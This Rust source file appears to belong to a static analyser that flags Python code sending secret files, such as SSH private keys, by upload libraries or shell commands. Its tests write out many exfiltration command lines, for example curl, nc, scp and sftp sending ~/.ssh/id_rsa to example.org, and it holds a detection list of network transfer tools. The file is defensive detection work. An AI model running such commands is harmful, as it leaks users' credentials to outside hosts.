//! Files of secrets that are sent by their names: by a program's command line, or by a client that opens them itself.

use airlock_model::finding::{Confidence, Finding, Severity};

use super::destination::Destination;
use crate::python::model::origin::{SourceKind, is_public, secret_file};
use crate::rules::arrivals::Arrival;
use crate::rules::check::{Check, How, Use};
use crate::rules::paths;
use crate::rules::rule::Hook;
use crate::rules::sinks::{Part, SinkKind};

/// What sends the file that an argument names.
pub(crate) const UPLOADERS: &[&str] = &[
    "boto3.client().upload_file",
    "boto3.resource().Bucket().upload_file",
    "boto3.resource().Object().upload_file",
    "boto3.resource().meta.client.upload_file",
    "boto3.Session().client().upload_file",
    "boto3.session.Session().client().upload_file",
    "boto3.Session().resource().Bucket().upload_file",
    "paramiko.SSHClient().open_sftp().put",
    "paramiko.SFTPClient.from_transport().put",
    "pysftp.Connection().put",
    "fabric.Connection().put",
    "google.cloud.storage.Client().bucket().blob().upload_from_filename",
    "google.cloud.storage.Client().get_bucket().blob().upload_from_filename",
    "minio.Minio().fput_object",
    "huggingface_hub.upload_file",
    "huggingface_hub.HfApi().upload_file",
];

/// Keywords that name the file on this machine.
const LOCAL: &[&str] = &["Filename", "filename", "localpath", "local", "path_or_fileobj", "file_path"];

/// Secrets of one kind, as the rule about them has them.
pub(super) trait Secret {
    /// The kind, alone in a list.
    const KINDS: &'static [SourceKind];
    /// What they are called.
    const WHAT: &'static str;

    /// Whether they go where they are meant to go.
    fn is_meant(_: Part, _path: &str) -> bool {
        false
    }
}

/// What a rule about secrets that are sent looks at: flows of their contents, and files that are sent by their names.
pub(super) const fn hooks<S: Secret>() -> [Hook; 4] {
    [
        Hook::Flow(S::KINDS, &[SinkKind::Send], arrived::<S>),
        Hook::Reach(UPLOADERS, uploaded::<S>),
        Hook::Reach(paths::SHELLS, by_command::<S>),
        Hook::Reach(paths::PROCESSES, by_command::<S>),
    ]
}

/// The contents of a secret that are sent.
fn arrived<S: Secret>(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let Some((_, flow)) = arrival.of(S::KINDS).find(|(part, flow)| !S::is_meant(*part, &flow.path)) else { return };
    let destination = Destination::of(&arrival.destinations);
    let what = flow.name.as_deref().map_or_else(|| flow.path.to_string(), airlock_model::escape::quoted);
    let message = format!("{} sends the {} in {what}{}", arrival.path, S::WHAT, destination.phrase());
    let (severity, confidence) = super::of_secret(flow, destination.is_suspicious());
    let finding = super::finding(check, arrival, flow, message).severity(severity).confidence(confidence);
    check.report(finding);
}

/// A call of one of [`UPLOADERS`].
fn uploaded<'a, S: Secret>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
    let Some(call) = site.call.filter(|_| site.how == How::Called) else { return };
    let position = if site.path.ends_with("fput_object") { 2 } else { 0 };
    let named = call.arguments.keywords.iter().filter(|word| word.arg.as_deref().is_some_and(|n| LOCAL.contains(&n)));
    for file in call.arguments.args.get(position).into_iter().chain(named.map(|word| &word.value)) {
        let text = check.model.written(file, site.place.scope);
        if let Some((kind, name)) = secret(&text)
            && S::KINDS.contains(&kind)
        {
            let finding = told::<S>(check, site, &name, "");
            return check.report(finding);
        }
        // A copy of one, or an archive of a folder of them.
        let flows = check.model.written_to(file, site.place.scope).flows;
        if let Some(flow) = flows.into_iter().find(|flow| S::KINDS.contains(&flow.kind)) {
            let name = flow.name.unwrap_or_else(|| flow.path.to_string());
            let finding = told::<S>(check, site, &name, "");
            return check.report(finding);
        }
    }
}

/// A command line that sends a file.
fn by_command<'a, S: Secret>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
    let Some(line) = check.command(site) else { return };
    let model = check.model;
    let holds = |file: &str| secret(file).or_else(|| model.copied_to(file.trim_matches(['"', '\''])));
    if let Some((_, name)) = sent(&line, &holds).filter(|(kind, _)| S::KINDS.contains(kind)) {
        let addresses: Vec<String> = line.split_whitespace().filter(|w| w.contains("://")).map(str::to_owned).collect();
        let finding = told::<S>(check, site, &name, &Destination::of(&addresses).phrase());
        check.report(finding);
    }
}

fn told<'a, S: Secret>(check: &Check<'_, 'a>, site: &Use<'a>, name: &str, to: &str) -> Finding {
    let message = format!("{} sends the {} in {}{to}", site.path, S::WHAT, airlock_model::escape::quoted(name));
    check.at(site.range, message).severity(Severity::Critical).confidence(Confidence::High)
}

/// The file of secrets that a command line, in lower case, sends, and what it `holds`.
fn sent(line: &str, holds: &dyn Fn(&str) -> Option<(SourceKind, String)>) -> Option<(SourceKind, String)> {
    const PROGRAMS: &[&str] =
        &["curl", "wget", "scp", "rsync", "sftp", "rclone", "aws", "gsutil", "nc", "ncat", "netcat"];
    // Most command lines hold none of these.
    if !PROGRAMS.iter().any(|program| line.contains(program)) {
        return None;
    }
    let mut before: &str = "";
    for part in line.split(['|', ';', '&', '\n']) {
        let words: Vec<&str> = part.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')'])).collect();
        let at = words.iter().position(|word| PROGRAMS.contains(&word.rsplit('/').next().unwrap_or(word)));
        if let Some(at) = at {
            let program = words[at].rsplit('/').next().unwrap_or_default();
            let found = files_of(program, &words[at + 1..])
                .into_iter()
                .chain(read_out(part))
                .chain(if takes_input(program, &words) { read_out(before) } else { Vec::new() })
                .chain(if program == "sftp" { put(&before.split_whitespace().collect::<Vec<_>>()) } else { Vec::new() })
                .find_map(holds);
            if found.is_some() {
                return found;
            }
        }
        before = part;
    }
    None
}

/// What a file holds, by its name; half of a pair of keys is there to be given away.
fn secret(file: &str) -> Option<(SourceKind, String)> {
    let file = file.trim_matches(['"', '\'']);
    if is_public(file) { None } else { secret_file(&[file.to_owned()]) }
}

/// The files that a program's arguments have it send.
fn files_of<'l>(program: &str, words: &[&'l str]) -> Vec<&'l str> {
    match program {
        "curl" => {
            let data = words.iter().filter_map(|word| word.split_once(['@', '<']).map(|(_, file)| file));
            let uploads = words.windows(2).filter(|pair| matches!(pair[0], "-t" | "--upload-file")).map(|pair| pair[1]);
            data.chain(uploads).map(|file| file.split(';').next().unwrap_or(file)).collect()
        }
        "wget" => words
            .iter()
            .filter_map(|word| word.strip_prefix("--post-file=").or_else(|| word.strip_prefix("--body-file=")))
            .collect(),
        // The last is where it goes, and must be elsewhere; what follows `-i` is the key to log in with.
        "scp" | "rsync" | "rclone" | "aws" | "gsutil" => {
            let Some((last, words)) = words.split_last().filter(|(last, _)| last.contains([':', '\u{fffc}'])) else {
                return Vec::new();
            };
            let mut files = Vec::new();
            let mut skip = last.is_empty();
            for word in words {
                if !skip && !word.starts_with('-') {
                    files.push(*word);
                }
                skip = matches!(*word, "-i" | "-f" | "-o" | "-p" | "-e" | "--rsh" | "--config" | "--profile");
            }
            files
        }
        "sftp" => put(words),
        // `nc host 80 < file`.
        _ => words.windows(2).filter(|pair| pair[0] == "<").map(|pair| pair[1]).collect(),
    }
}

/// The files that commands of `sftp` send: `put FILE`.
fn put<'l>(words: &[&'l str]) -> Vec<&'l str> {
    let bare = |word: &'l str| word.trim_matches(['"', '\'', '(', ')']);
    words.windows(2).filter(|pair| matches!(bare(pair[0]), "put" | "mput")).map(|pair| bare(pair[1])).collect()
}

/// Whether a program sends what it reads from its standard input.
fn takes_input(program: &str, words: &[&str]) -> bool {
    matches!(program, "nc" | "ncat" | "netcat") || words.iter().any(|word| word.ends_with("@-") || *word == "-")
}

/// The files that a part of a command line reads out: `cat FILE`, `$(base64 FILE)`.
fn read_out(part: &str) -> Vec<&str> {
    const READERS: &[&str] = &["cat", "base64", "xxd", "gzip", "tar", "head", "type"];
    let words: Vec<&str> = part.split([' ', '\t', '"', '\'', '(', ')', '`', '$']).filter(|w| !w.is_empty()).collect();
    let Some(at) = words.iter().position(|word| READERS.contains(word)) else { return Vec::new() };
    words[at + 1..].iter().filter(|word| !word.starts_with('-')).copied().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_are_told_from_keys_to_log_in_with() {
        for line in [
            "curl -t /home/me/.ssh/id_rsa https://example.org/",
            "curl -f file=@/home/me/.ssh/id_rsa https://example.org/",
            "curl --data-binary @~/.ssh/id_rsa https://example.org/",
            "curl -d \"$(cat ~/.ssh/id_rsa)\" https://example.org/",
            "cat ~/.ssh/id_rsa | curl -d @- https://example.org/",
            "base64 ~/.ssh/id_rsa | nc example.org 80",
            "nc example.org 80 < ~/.ssh/id_rsa",
            "wget --post-file=/home/me/.ssh/id_rsa https://example.org/",
            "scp -q ~/.ssh/id_rsa me@example.org:/tmp/",
            "rsync -a ~/.ssh example.org:/tmp/",
            "echo 'put /home/me/.ssh/id_rsa' | sftp -b - me@example.org",
            "sftp me@example.org <<< 'put /home/me/.ssh/id_rsa'",
        ] {
            assert_eq!(sent(line, &secret).map(|(kind, _)| kind), Some(SourceKind::KeyFile), "{line}");
        }
        for line in [
            "scp -i ~/.ssh/id_rsa notes.txt me@example.org:/tmp/",
            "scp me@example.org:/tmp/x ~/.ssh/id_rsa",
            "rsync -a -e 'ssh -i ~/.ssh/id_rsa' notes example.org:/tmp/",
            "curl -o ~/.ssh/known https://example.org/",
            "curl --data @notes.json https://example.org/",
            "cat ~/.ssh/id_rsa.pub | nc example.org 80",
            "sftp -i ~/.ssh/id_rsa me@example.org",
            "echo 'get ~/.ssh/id_rsa' | sftp me@example.org",
            "scp ~/.ssh/known_hosts me@example.org:/tmp/",
            "cat ~/.ssh/id_rsa; curl https://example.org/",
        ] {
            assert_eq!(sent(line, &secret), None, "{line}");
        }
    }
}
